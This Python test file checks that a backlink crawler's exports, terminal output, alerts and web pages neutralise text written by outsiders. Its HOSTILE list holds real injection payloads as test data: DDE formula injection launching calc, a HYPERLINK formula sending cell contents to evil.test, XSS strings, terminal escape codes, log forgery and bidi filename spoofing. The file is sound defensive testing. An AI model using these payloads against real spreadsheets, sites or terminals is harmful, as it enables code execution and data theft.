"""Texts that strangers wrote, in every output: harmless, valid UTF-8, on one line where one is due."""

import csv
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path
from xml.etree import ElementTree
from zipfile import ZipFile

import pyarrow.parquet
import pytest
import python_calamine
from click.testing import CliRunner
from selectolax.lexbor import LexborHTMLParser, LexborNode

from linkcrawler import store
from linkcrawler.alert.message import compose
from linkcrawler.cells import restored
from linkcrawler.cli.root import root
from linkcrawler.columns import CHANGES
from linkcrawler.export import layout_of, write_disavow, write_table
from linkcrawler.summary import plain as of_summary
from linkcrawler.text import UNSAFE, json_line, plain
from tests import chromium
from tests.make import DAY, NOW, backlink, facts, fetch, link, night
from tests.serving import ask, served

SHOP = "https://www.example.com/shop"

HOSTILE = {
    "equals": "=1+1",
    "plus": "+49 30 1",
    "minus": "-1+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "fullwidth": "\uff1d1+1",
    "hyperlink": '=HYPERLINK("http://evil.test/?"&A1,"click")',
    "quote": '"=1+1',
    "apostrophe": "'=1+1",
    "semicolon": "x;=1+1;y",
    "newline": "x\n=1+1",
    "mark": "\ufeff=1+1",
    "nul": "=\0nul\0",
    "override": "safe\u202egnp.exe",
    "isolate": "\u2066isolated\u2069",
    "colour": "\x1b[31mred\x1b[0m",
    "terminal-link": "\x1b]8;;http://evil.test/\x07here\x1b]8;;\x07",
    "clear": "\x1b[2J\x9b2J\x08\x08",
    "forged-line": "x\r\n2026-11-24T02:00:00+00:00 lost everything",
    "separator": "x\u2028y\u2029z\x85w",
    "script": "<script>window.ran=1</script>",
    "image": '<img src="x" onerror="window.ran=1">',
    "attribute": "\" onmouseover=window.ran=1 x='",
    "table": "</td></tr></table><h1 onclick=window.ran=1>x</h1><table><tr><td>",
    "javascript": "javascript:window.ran=1//",
    "template": "{{ 7*7 }} ${7*7} %s %(x)s {0} <%= 7 %>",
    "half": "half \ud83d of it",
    "long": "=" + "long " * 20_000,
    "two-addresses": "http://a.example/\nhttp://b.example/",
    "emoji": "\U0001f469\u200d\U0001f467 \U0001f1e9\U0001f1ea",
    "right-to-left": "\u05e9\u05dc\u05d5\u05dd =1+1",
    "no-characters": "\ufffe\uffff\U000e0041\U000e007f",
    "spoken": "@everyone <!channel> [x](http://evil.test) *b*",
}

FORMULA = tuple("=+-@\t\r\0\uff1d\uff0b\uff0d\uff20")
ids = HOSTILE.keys()
each = pytest.mark.parametrize("text", HOSTILE.values(), ids=ids)


def whole(text: str) -> str:
    """Return the text as UTF-8 can hold it."""
    return re.sub("[\ud800-\udfff]", "\ufffd", text)


def event(text: str) -> dict[str, object]:
    """Return a change whose every text is the hostile one."""
    return {
        "id": 1,
        "at": "2026-11-24T02:00:00+00:00",
        "run_id": 1,
        "backlink_id": 1,
        "referring_page": f"https://a.example/{text}",
        "target": text,
        "kind": "changed",
        "field": "anchor_text",
        "old": text,
        "new": text,
        "reason": "link_found",
        "observation_id": 1,
    }


def written(form: str, text: str, **options: bool) -> bytes:
    out = io.BytesIO()
    write_table(form, out, layout_of(CHANGES, None), [event(text)], **options)
    return out.getvalue()


# --- files ----------------------------------------------------------------------------------------


@each
def test_csv_is_safe_and_comes_back(text: str):
    lines = written("csv", text).decode("utf-8")
    header, row = csv.reader(io.StringIO(lines, newline=""))
    cells = dict(zip(header, row, strict=True))
    parts = [part for cell in row for part in re.split("[;\t\n\r]", cell)]

    assert whole(text) == restored(cells["new"])
    assert not cells["new"].lstrip(" \ufeff").startswith(FORMULA)
    assert not any(part.lstrip(" \ufeff").startswith(FORMULA[:4]) for part in parts)


@each
def test_raw_csv_is_as_it_was(text: str):
    _, row = csv.reader(io.StringIO(written("csv", text, is_raw=True).decode(), newline=""))

    assert whole(text) == row[9]


@each
def test_json_lines_are_a_line_that_commands_nothing(text: str):
    told = written("jsonl", text).decode("utf-8")

    assert len(told.splitlines()) == 1
    assert UNSAFE.sub("", told) == told.rstrip("\n")
    assert text == json.loads(told)["new"]


@each
def test_a_workbook_has_the_text_and_no_formula(text: str, tmp_path: Path):
    (tmp_path / "a.xlsx").write_bytes(written("xlsx", text))
    book = python_calamine.CalamineWorkbook.from_path(tmp_path / "a.xlsx")
    row = book.get_sheet_by_index(0).to_python()[1]
    with ZipFile(tmp_path / "a.xlsx") as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
        tags = {each.tag.rpartition("}")[2] for each in ElementTree.fromstring(sheet).iter()}

    assert "f" not in tags
    assert "hyperlink" not in tags
    shown = re.sub("[\ufffe\uffff]", "\ufffd", whole(text))[:32_767]
    assert shown.replace("\r\n", "\n").strip() == row[9].replace("\r\n", "\n").strip()


@each
def test_parquet_has_the_text(text: str):
    table = pyarrow.parquet.read_table(io.BytesIO(written("parquet", text)))

    assert [whole(text)] == table["new"].to_pylist()


@each
def test_a_disavow_file_has_a_line_for_it_at_most(text: str):
    out = io.BytesIO()
    rows = [{"referring_page": f"http://a.example/{text}"}, {"referring_page": "http://b.example/"}]
    write_disavow(out, rows, own_sites=frozenset({"target.example"}), by_page=True)
    lines = [line for line in out.getvalue().decode("ascii").split("\n")[:-1] if line[0] != "#"]

    assert len(lines) <= 2
    assert all(re.fullmatch(r"http://[ab]\.example/[!-~]*", line) for line in lines)


# --- terminal, log, alert -------------------------------------------------------------------------


@each
def test_what_is_shown_on_a_terminal_or_in_a_log_is_a_line_that_commands_nothing(text: str):
    for told in (plain(text), of_summary(text), json_line({"x": text})):
        assert len(told.splitlines()) == 1
        assert not re.search("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", told)
        told.encode("utf-8")


@each
def test_an_alert_is_lines_of_ours(text: str):
    more = {"referring_domain": "a.example", "final_url": None, "http_status": 200}
    more |= {"anchor_text": text, "last_present_at": None}
    message = compose(1, [{**event(text), **more}])

    assert message is not None
    assert UNSAFE.sub("", message.text.replace("\n", "")) == message.text.replace("\n", "")
    assert len(message.text.splitlines()) == len(
        compose(1, [{**event("x"), **more}]).text.splitlines()
    )
    assert len(message.body.decode("utf-8").splitlines()) == 1
    assert text == json.loads(message.body)["new"]
    assert "<!channel>" not in message.text
    assert "@everyone" not in message.text


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return a database in which each hostile text was an anchor, and then another one."""
    path = tmp_path_factory.mktemp("outputs") / "a.db"
    database = store.open_database(path)
    pages = {f"https://{name}.example/page": whole(text) for name, text in HOSTILE.items()}
    store.take_list(database, [backlink(page, SHOP) for page in pages], "list.csv", NOW)
    for at, suffix in ((NOW, ""), (NOW + DAY, "!")):
        answers = {
            page: (fetch(), facts(title=text), (link(anchor_text=text + suffix, html=text),))
            for page, text in pages.items()
        }
        night(database, at, answers)
    database.close()
    return path


@pytest.mark.parametrize("name", HOSTILE)
def test_show_and_changes_print_lines_of_ours(db: Path, name: str):
    page = f"https://{name}.example/page"
    show = CliRunner().invoke(root, ["show", page, "--db", str(db)]).output
    as_json = CliRunner().invoke(root, ["show", page, "--json", "--db", str(db)]).output

    assert UNSAFE.sub("", show.replace("\n", "")) == show.replace("\n", "")
    assert [line for line in show.splitlines() if not re.match(r"https://|  ", line)] == []
    assert len(as_json.splitlines()) == 1
    assert json.loads(as_json)["page_title"] == whole(HOSTILE[name])


def test_changes_print_two_lines_for_each(db: Path):
    told = CliRunner().invoke(root, ["changes", "--db", str(db)]).output

    assert UNSAFE.sub("", told.replace("\n", "")) == told.replace("\n", "")
    assert len(HOSTILE) * 2 == len(told.splitlines())


# --- the browser ----------------------------------------------------------------------------------

PAGES = (
    "/backlinks/backlink_status?_size=max",
    "/backlinks/change_events?_size=max",
    "/backlinks/backlink_status?anchor_text__contains=<script>window.ran=1</script>",
    "/backlinks?sql=SELECT+anchor_text%2C+page_title+FROM+backlink_status",
    "/backlinks/history?page=%22%3E%3Cscript%3Ewindow.ran%3D1%3C%2Fscript%3E",
    "/backlinks/<script>window.ran=1</script>",
)
IN_CELLS = {"td", "a", "span", "-text", "em"}


@pytest.fixture(scope="module")
def address(db: Path) -> Iterator[str]:
    with served(db) as at:
        yield at


@pytest.mark.parametrize("page", PAGES[:2])
def test_cells_hold_text_and_links_to_the_web_alone(address: str, page: str):
    tree = LexborHTMLParser(ask(address, page)[1])
    cells = tree.css("table.rows-and-columns tbody td")
    inside = [node for cell in cells for node in nodes(cell)]

    assert len(cells) >= len(HOSTILE) * len(CHANGES)
    assert {node.tag for node in inside} <= IN_CELLS
    assert {name for node in inside for name in node.attributes if name.startswith("on")} == set()
    links = [node.attributes["href"] for node in inside if node.tag == "a"]
    assert [href for href in links if not re.match(r"https?://|/backlinks/", href)] == []


def nodes(cell: LexborNode) -> Iterator[LexborNode]:
    """Yield a cell and all elements in it."""
    yield cell
    yield from cell.css("*")


def test_no_script_of_theirs_is_in_a_page(address: str):
    ours = {ask(address, "/backlinks/runs")[1].count("<script"), 0}
    for page in PAGES:
        body = ask(address, page.replace("<", "%3C").replace(">", "%3E"))[1]
        scripts = [node.text() for node in LexborHTMLParser(body).css("script")]

        assert [script for script in scripts if "window.ran" in script] == [], page
    assert ours


@pytest.mark.skipif(not chromium.is_there(), reason="there is no Chromium")
def test_nothing_of_theirs_runs_in_a_browser(address: str):
    with chromium.blank_page() as page:
        foreign: list[str] = []
        page.on("request", lambda request: foreign.append(request.url))
        page.on("dialog", lambda dialog: foreign.append(dialog.message))
        for path in PAGES:
            page.goto(f"{address}{path}")
            for cell in page.locator("table.rows-and-columns td").all()[:40]:
                cell.hover(timeout=5_000)
            assert page.evaluate("window.ran") is None, path

    assert [url for url in foreign if not url.startswith(address)] == []
